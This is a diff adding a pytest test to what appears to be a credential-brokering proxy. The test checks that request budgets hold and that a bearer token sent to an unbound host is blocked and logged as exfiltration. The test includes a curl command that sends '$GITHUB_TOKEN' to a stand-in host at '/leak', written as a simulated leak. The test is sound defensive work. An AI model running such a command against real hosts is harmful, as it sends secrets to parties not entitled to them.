@@ -354,3 +354,31 @@ def test_isolate_env_says_it_cannot_capture(ws):
     r = ws.run("sh", "-c", f"echo {RAN}", isolate="env")
     assert r.returncode == 0 and RAN in r.out, r.describe()
     assert "no transparent capture" in session_lines(r.err)[0], r.err
+
+
+# --------------------------------------------------------------------------------------------
+# Budgets and the brokers' refusals work the same on captured connections
+# --------------------------------------------------------------------------------------------
+
+def test_a_captured_client_meets_the_budget_and_the_exfiltration_guard(tmp_path, pki, tls_upstream):
+    other = "api.other.test"
+    policy = github_policy({"allow": [{"host": API}, {"host": other}],
+                            "budgets": {"requests": 2}})
+    ws = WrapSession(tmp_path, pki, tls_upstream.port, policy=policy,
+                     connect=[f"{other}:443:127.0.0.1:{tls_upstream.port}"])
+    get = ('curl -sS --noproxy "*" --max-time 10 -o /dev/null -w "%{http_code} " '
+           '-H "Authorization: Bearer $GITHUB_TOKEN" ')
+    r = ws.run("sh", "-c", f'echo {RAN}; {get} https://{other}/leak; '
+                           f'{get} https://{API}/one; {get} https://{API}/two; '
+                           f'{get} https://{API}/three')
+    assert RAN in r.out, r.describe()
+    # The dummy sent to a host its credential is not bound to: 403, nothing forwarded.
+    assert r.out.split()[1:] == ["403", "200", "429", "429"], r.describe()
+    assert not [q for q in tls_upstream.requests if q["path"] == "/leak"]
+    recs = [x for x in ws.records() if x.get("captured")]
+    leak = [x for x in recs if x.get("path") == "/leak"]
+    assert leak and leak[0]["event"] == "exfiltration_blocked", recs
+    assert leak[0]["error"] == "credential_not_bound", leak
+    spent = [x for x in recs if x.get("error") == "budget_exhausted"]
+    assert len(spent) == 2, recs
+    ws.assert_logs_clean()
